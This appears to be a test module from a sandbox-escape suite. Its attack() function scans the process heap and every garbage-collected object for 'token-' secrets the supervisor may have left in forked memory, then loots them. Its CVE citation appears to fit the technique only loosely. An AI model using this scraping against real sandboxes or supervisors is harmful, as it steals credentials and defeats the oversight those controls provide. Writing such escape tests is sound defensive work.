"""Search all of one's own heap for the supervisor's secrets: the zygote might have held them."""

import ctypes
import gc
import re
import sys

from tests.escape.technique import OWN_MEMORY, Granted, Technique, escapes


def attack(world):
    world.libc.sbrk.restype = ctypes.c_long
    top = world.libc.sbrk(0)
    size = 1 << 20
    data = ctypes.string_at(top - size, size)
    for found in re.findall(rb"token-[0-9a-f]{32}", data):
        world.loot(found)
    # the collector lists neither what is frozen nor what holds only atoms: all of it hangs on something else
    gc.unfreeze()  # what a zygote had made is left out of the list otherwise
    waiting, seen = [sys.modules, gc.get_objects()], set()
    while waiting:
        thing = waiting.pop()
        if isinstance(thing, str | bytes):
            if "token-" in str(thing):
                world.loot(thing[:200])
        elif id(thing) not in seen:
            seen.add(id(thing))
            waiting += gc.get_referents(thing)


TECHNIQUE = Technique(
    source="forked workers that keep the parent's memory: CVE-2014-0160 class",
    no_event="nothing is refused: the memory is the guest's own",
    stops=("memory",),
    control=Granted(lambda p, t: p, {"env": "token"}),
    thread=escapes(OWN_MEMORY),
)
